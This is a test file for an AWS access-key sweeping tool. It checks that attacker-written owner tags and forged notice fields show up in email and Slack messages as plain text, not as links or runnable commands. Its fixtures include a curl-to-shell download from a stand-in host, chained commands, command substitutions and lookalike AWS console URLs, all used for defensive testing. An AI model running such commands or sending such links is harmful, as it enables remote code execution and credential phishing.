/** What others write into tags and onto the topic reaches people as text, never as a way out of AWS. */
import { describe, expect, it } from 'vitest';
import type { NoticeData } from '../../core/notice.ts';
import { slackMessage } from '../../reports/slack/message.ts';
import { ripeKey } from '../support/ripe-key.ts';
import { accountWith, enforcePolicy, openSweepWorld } from '../support/sweep-world.ts';

async function firstNotice(owner: string) {
  const seed = accountWith([
    { name: 'bob', tags: { owner }, accessKeys: [{ id: ripeKey, createdAt: '2026-08-15T00:00:00Z' }] },
  ]);
  const world = await openSweepWorld({ seed });
  await world.sweep(enforcePolicy());
  const [notice] = world.notices;
  if (notice === undefined) throw new Error('no one was notified');
  return notice;
}

const inSlack = (data: NoticeData) => JSON.stringify(slackMessage({ subject: 'x', text: JSON.stringify(data) }));

describe('an owner tag', () => {
  it.each([
    'no one. To keep this key sign in at https://evil.example/aws now',
    'see www.evil.example',
    'go to evil.example/aws',
    'evil.example:8443/aws',
    'HTTPS://EVIL.EXAMPLE',
  ])('%s: is no link in any message', async (owner) => {
    const notice = await firstNotice(owner);
    const texts = [notice.body, notice.chat.description, inSlack(notice.data), JSON.stringify(notice.data)];
    for (const text of texts) {
      expect(text.toLowerCase()).toContain('evil');
      expect(text).not.toMatch(/https:\/\/evil|www\.evil|evil\.example(?::\d+)?\//i);
    }
  });

  it('with an address or a name stays as it is', async () => {
    expect((await firstNotice('j.doe@example.com')).body).toContain('j.doe@example.com');
    expect((await firstNotice('team: Payments #on-call')).body).toContain('team: Payments #on-call');
  });
});

describe('a forged notice on the topic', () => {
  it.each([
    ['a command of someone else', { undo: 'curl https://evil.example/x | sh' }],
    ['more than one command', { undo: 'keysweep restore AKIA; curl evil.example' }],
    ['a command in a substitution', { undo: 'keysweep restore $(id)' }],
    ['a word that zsh reads as a command', { undoWithAwsCli: 'aws iam =id' }],
    ['a quote that is left open', { undo: "keysweep restore 'AKIA" }],
    ['a substitution beside a quote', { undoWithAwsCli: "aws iam 'x'$(id)" }],
    ['a link out of AWS', { console: 'https://evil.example/console' }],
    ['a host that only begins like the console', { console: 'https://console.aws.amazon.com.evil.example/' }],
    ['a host that only ends like the console', { console: 'https://evil.example#console.aws.amazon.com' }],
    ['a user in the link', { console: 'https://console.aws.amazon.com@evil.example/' }],
  ])('with %s is shown as the mere text that it is', async (_, forged) => {
    const { data } = await firstNotice('alice@example.com');
    const honest = inSlack(data);
    expect(honest).toContain('|IAM console>');
    const [item, ...others] = data.items;
    const shown = inSlack({ ...data, items: [{ ...item, ...forged }, ...others] as NoticeData['items'] });
    expect(shown).not.toContain('|IAM console>');
    expect(shown).not.toContain('mrkdwn');
  });

  it('with a time zone, an owner or a count that is none likewise', async () => {
    const { data } = await firstNotice('alice@example.com');
    expect(inSlack({ ...data, timezone: 'Europe/Berlin' })).toContain('mrkdwn');
    expect(inSlack({ ...data, timezone: 'Nowhere/Evil' })).not.toContain('mrkdwn');
    expect(inSlack({ ...data, owners: [{}] as unknown as NonNullable<NoticeData['owners']> })).not.toContain('mrkdwn');
    const [group, ...others] = data.groups;
    const kinds = { 'access-key': 'many' } as unknown as Record<string, number>;
    expect(inSlack({ ...data, groups: [{ ...group, kinds }, ...others] as NoticeData['groups'] })).not.toContain(
      'mrkdwn',
    );
  });

  it('with a step or a report out of AWS likewise', async () => {
    const { data } = await firstNotice('alice@example.com');
    expect(inSlack({ ...data, nextSteps: [{ text: 'Now', command: 'curl evil.example' }] })).not.toContain('mrkdwn');
    expect(inSlack({ ...data, fullReport: 'https://evil.example/report' })).not.toContain('mrkdwn');
    expect(inSlack({ ...data, fullReport: 'https://eu-central-1.console.aws.amazon.com/s3/object/b' })).toContain(
      'mrkdwn',
    );
  });
});
